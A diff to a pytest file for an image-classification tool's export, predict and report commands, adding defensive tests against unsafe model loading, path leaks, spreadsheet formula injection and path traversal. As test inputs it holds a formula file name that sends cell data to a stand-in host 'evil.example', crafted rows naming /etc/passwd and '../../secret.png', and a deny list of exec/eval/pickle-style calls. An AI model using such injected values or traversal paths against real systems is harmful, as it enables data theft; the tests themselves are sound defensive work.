@@ -1,6 +1,7 @@
 """Using results: sweeps that share stages and resume, comparison tables, the HTML report in a real
 browser, predictions on new images, and an export that loads without Adapt Anything."""
 
+import ast
 import csv
 import json
 import os
@@ -9,6 +10,7 @@ import signal
 import subprocess
 import sys
 import time
+from pathlib import Path
 
 import numpy as np
 import pytest
@@ -182,34 +184,200 @@ def test_predict_gives_each_image_the_category_the_run_gave_it(finished_run, sma
     assert bad.stderr.strip().endswith("is neither an image file nor a folder; name image files or folders of images")
 
 
-def test_an_export_predicts_the_target_as_the_run_did_in_a_process_without_adapt_anything(finished_run, small_target, tmp_path):
+MODELING_IMPORTS = {"__future__", "json", "functools", "pathlib", "numpy", "timm", "torch", "PIL", "safetensors"}
+
+
+def calls_and_imports(source):
+    """The dotted names a module calls and the top-level modules it imports."""
+    tree = ast.parse(source)
+    calls = {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}
+    imports = {a.name.split(".")[0] for node in ast.walk(tree) if isinstance(node, ast.Import) for a in node.names}
+    imports |= {node.module.split(".")[0] for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
+    return calls, imports
+
+
+def test_an_export_is_weights_and_a_description_and_predicts_as_the_run_did_without_adapt_anything(finished_run, small_target, tmp_path):
     out = tmp_path / "export"
     aa("export", finished_run, out, check=0)
-    assert {p.name for p in out.iterdir()} == {"model.safetensors", "config.json", "modeling.py", "backbones.py", "head.pt", "README.md"}
+    assert {p.name for p in out.iterdir()} == {"model.safetensors", "config.json", "modeling.py", "README.md"}
+    config = read_json(out / "config.json")
+    assert config["backbone"] == {"name": "aa_small_cnn", "in_chans": 1, "num_features": 64}
+    assert [layer["type"] for layer in config["bottleneck"]["layers"]] == ["linear", "batch_norm", "relu"]
+    head = config["head"]  # MCD's two classifiers, read through their mean probability
+    assert head["type"] == "mean_of_probabilities" and list(head["parts"]) == ["c1", "c2"]
+    c1 = head["parts"]["c1"]["layers"]
+    assert [layer["type"] for layer in c1] == ["dropout", "linear", "batch_norm", "relu"] * 2 + ["dropout", "linear"]
+    assert (c1[1]["in_features"], c1[1]["out_features"], c1[-1]["out_features"], c1[0]["p"]) == (256, 256, 10, 0.5)
+    assert config["classes"] == [str(k) for k in range(10)] and config["preprocessing"]["image_size"] == 8
+    calls, imports = calls_and_imports((out / "modeling.py").read_text())
+    assert imports <= MODELING_IMPORTS  # no importlib, pickle, runpy
+    assert not calls & {"exec", "eval", "compile", "__import__", "torch.load", "torch.jit.load", "torch.jit.script", "open"}
+
     card = (out / "README.md").read_text()
     metrics = read_json(finished_run / "metrics.json")
     assert "`mcd`" in card and "`glyph`" in card and f"refine {metrics['target_accuracy']['refine']:.4f}" in card
+    for text in (card, (out / "config.json").read_text()):  # no folder of this machine
+        assert str(finished_run) not in text and str(small_target) not in text and str(tmp_path) not in text
+
+    # a backbones.py or head.pt put beside it is never run: modeling.py reads the description alone
+    marker = tmp_path / "ran"
+    (out / "backbones.py").write_text(f"open({str(marker)!r}, 'w')\n")
+    (out / "head.pt").write_bytes(b"not read")
     hide = tmp_path / "hide" / "aa_core"
     hide.mkdir(parents=True)
     (hide / "__init__.py").write_text("raise ImportError('Adapt Anything is not installed here')\n")
     rows = list(csv.DictReader(open(finished_run / "predictions.csv")))
+    paths = [str(small_target / r["image"]) for r in rows]
     script = f"""
 import json, sys
 sys.path.insert(0, {str(out)!r})
 import modeling
-rows = json.loads(sys.argv[1])
-predicted = modeling.predict({str(out)!r}, [{str(small_target)!r} + "/" + r["image"] for r in rows])
-print(json.dumps([p[0] for p in predicted]))
-assert not [m for m in sys.modules if m.startswith(("aa_core", "aa_uda", "aa_ssl"))]
+predicted = modeling.predict({str(out)!r}, json.loads(sys.argv[1]))
+print(json.dumps(predicted))
+assert not [m for m in sys.modules if m.startswith(("aa_core", "aa_uda", "aa_ssl", "backbones"))]
 """
     env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(hide.parent)}
-    proc = subprocess.run([sys.executable, "-c", script, json.dumps(rows)], capture_output=True, text=True, env=env, timeout=300)
+    proc = subprocess.run([sys.executable, "-c", script, json.dumps(paths)], capture_output=True, text=True, env=env, timeout=300)
     assert proc.returncode == 0, proc.stderr[-2000:]
     predicted = json.loads(proc.stdout)
-    assert predicted == [r["predicted"] for r in rows]
+    assert [p[0] for p in predicted] == [r["predicted"] for r in rows] and not marker.exists()
     labels = [r["image"].split("/")[0] for r in rows]
-    accuracy = round(sum(p == y for p, y in zip(predicted, labels)) / len(rows), 4)
+    accuracy = round(sum(p[0] == y for p, y in zip(predicted, labels)) / len(rows), 4)
     assert accuracy == metrics["target_accuracy"]["refine"]
+    from aa_core.runs import Run
+    from aa_results.predict import Predictor
+
+    own = Predictor(Run.open(finished_run)).predict([Path(p) for p in paths])  # the run's model, in this process
+    assert max(abs(p[1] - q.confidence) for p, q in zip(predicted, own)) < 1e-5
+
+
+@pytest.mark.parametrize("name", ["aa_small_cnn", "aa_vit_tiny"])
+@pytest.mark.parametrize("channels", [1, 3])
+def test_modeling_builds_adapt_anythings_own_backbones_as_the_core_does(name, channels):
+    """modeling.py writes them out instead of shipping the core's module: same weights, same outputs."""
+    import timm
+    import torch
+
+    import aa_core.models.small_cnn  # noqa: F401  (registers the core's with timm)
+    import aa_core.models.tiny_vit  # noqa: F401
+    from aa_results.export_modeling import build_backbone
+
+    torch.manual_seed(0)
+    core = timm.create_model(name, pretrained=False, num_classes=0, in_chans=channels).eval()
+    written_out = build_backbone({"name": name, "in_chans": channels, "num_features": 64}).eval()
+    written_out.load_state_dict(core.state_dict())  # strict: the same parameter names and shapes
+    x = torch.randn(3, channels, 12, 12)
+    with torch.no_grad():
+        assert torch.equal(core(x), written_out(x))
+
+
+def test_an_export_refuses_a_layer_it_cannot_describe_in_one_line():
+    from torch import nn
+
+    from aa_core.errors import AAError
+    from aa_results.export import describe
+
+    assert describe(nn.Sequential(nn.Linear(4, 2), nn.ReLU())) == {
+        "type": "sequential",
+        "layers": [{"type": "linear", "in_features": 4, "out_features": 2, "bias": True}, {"type": "relu"}],
+    }
+    with pytest.raises(AAError) as caught:
+        describe(nn.Sequential(nn.Linear(4, 2), nn.GELU()))
+    assert str(caught.value) == (
+        "cannot export a torch.nn.modules.activation.GELU layer: config.json describes Linear, BatchNorm1d, ReLU, Dropout, "
+        "Sequential and the heads SumOfClassifiers, TargetHalf; export a run whose algorithms use those"
+    )
+
+
+def test_an_export_card_names_local_models_and_folders_by_their_name_alone(finished_run, small_target, tmp_path):
+    def export_with(name, **changes):
+        run = tmp_path / name
+        shutil.copytree(finished_run, run)
+        config = yaml.safe_load((run / "config.yaml").read_text())
+        for key, value in changes.items():
+            section, option = key.split("__")
+            config[section][option] = value
+        (run / "config.yaml").write_text(yaml.safe_dump(config))
+        aa("export", run, tmp_path / f"{name}-export", check=0)
+        card = (tmp_path / f"{name}-export" / "README.md").read_text()
+        assert str(tmp_path) not in card and "/home/" not in card and str(small_target) not in card
+        return card
+
+    card = export_with("generated", generator__model="/home/someone/private/fonts/MyHand.ttf", prompts__model="openai/gpt-4o-mini")
+    assert "from `glyph`, model `MyHand.ttf`, prompts from `template` (`openai/gpt-4o-mini`)" in card  # a hub id as it is
+    card = export_with("real", data__source=str(small_target))
+    assert f"- **Source:** a real labelled image folder (`{small_target.name}`)." in card
+
+
+def test_a_private_push_makes_an_existing_repository_private_before_anything_is_uploaded(tmp_path):
+    from huggingface_hub import HfApi
+
+    from aa_results.export import hub_calls
+
+    calls = hub_calls(HfApi(), tmp_path, "me/digits", private=True)
+    assert calls == [
+        ("create_repo", {"repo_id": "me/digits", "private": True, "exist_ok": True}),  # leaves an existing repository as it is
+        ("update_repo_settings", {"repo_id": "me/digits", "private": True}),
+        ("upload_folder", {"folder_path": str(tmp_path), "repo_id": "me/digits", "commit_message": "Adapt Anything export"}),
+    ]
+    public = hub_calls(HfApi(), tmp_path, "me/digits", private=False)
+    assert [method for method, _ in public] == ["create_repo", "upload_folder"]  # a private repository is never made public
+
+    class OlderHub:  # huggingface_hub before update_repo_settings
+        def create_repo(self, repo_id, *, private=False, exist_ok=False): ...
+        def update_repo_visibility(self, repo_id, private=False): ...
+        def upload_folder(self, *, repo_id, folder_path, commit_message=None): ...
+
+    older = hub_calls(OlderHub(), tmp_path, "me/digits", private=True)
+    assert older[1] == ("update_repo_visibility", {"repo_id": "me/digits", "private": True})
+
+
+def test_predict_csv_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(finished_run, small_target, tmp_path):
+    digit = small_target / "3" / sorted(os.listdir(small_target / "3"))[0]
+    names = ['=HYPERLINK("evil.example?x="&A1,"open").png', "+1.png", "-1.png", "@SUM(A1).png", "\tx.png", "\rx.png", "plain.png"]
+    for name in names:
+        shutil.copyfile(digit, tmp_path / name)
+    (tmp_path / "folder").mkdir()
+    shutil.copyfile(digit, tmp_path / "folder" / "=A1.png")
+    aa("predict", finished_run, "--out", "p.csv", "--", *names, "folder", cwd=tmp_path, check=0)
+    with open(tmp_path / "p.csv", newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[0] == ["image", "predicted", "confidence"]
+    assert [r[0] for r in rows[1:]] == ["'" + n for n in names[:-1]] + ["plain.png", "folder/=A1.png"]  # only a cell's start counts
+    expected = {r["image"]: r["predicted"] for r in csv.DictReader(open(finished_run / "predictions.csv"))}
+    assert {r[1] for r in rows[1:]} == {expected[str(digit.relative_to(small_target))]}
+
+
+def test_a_report_embeds_nothing_a_crafted_run_folder_names_outside_it(finished_run, small_target, tmp_path):
+    from aa_results.report import data_uri
+
+    run = tmp_path / "crafted"
+    shutil.copytree(finished_run, run)
+    secret = tmp_path / "secret.png"
+    Image.fromarray(np.arange(64, dtype=np.uint8).reshape(8, 8) * 4).save(secret)
+    (run / "source" / "0" / "link.png").symlink_to(secret)
+    metadata = run / "source" / "metadata.jsonl"
+    names = ["/etc/passwd", str(secret), "../../secret.png", "0/link.png"]
+    crafted = "".join(json.dumps({"file_name": n, "label": "0", "prompt": "CRAFTED-ROW"}) + "\n" for n in names)
+    metadata.write_text(crafted + metadata.read_text())  # first, where the report takes a category's images from
+    with open(run / "predictions.csv", "a", newline="") as f:
+        csv.writer(f).writerows([["/etc/passwd", "0", "0.9"], [os.path.relpath(secret, small_target), "0", "0.9"]])
+    aa("report", run, check=0)
+    page = (run / "report.html").read_text()
+    assert data_uri(Image.open(secret)) not in page and "CRAFTED-ROW" not in page
+    assert page.count('<figure class="tile"') == 60 + 60  # 6 synthetic images per category, 60 target images, as before
+    assert "4 image(s) named by source/metadata.jsonl were left out: they lie outside the run folder or do not open as images." in page
+    assert "2 image(s) named by predictions.csv were left out: they lie outside the target folder or do not open as images." in page
+
+    outside = tmp_path / "metrics.json"
+    shutil.move(run / "metrics.json", outside)
+    (run / "metrics.json").symlink_to(outside)
+    proc = aa("report", run)
+    assert proc.returncode == 1 and "Traceback" not in proc.stderr
+    assert proc.stderr.strip().splitlines()[-1] == (
+        f"error: {run / 'metrics.json'} links outside the run folder (to {outside.resolve()}); aa report reads only files inside {run}: "
+        "put the file itself there"
+    )
 
 
 def test_an_export_into_a_used_folder_or_a_failed_push_is_one_line(finished_run, tmp_path):
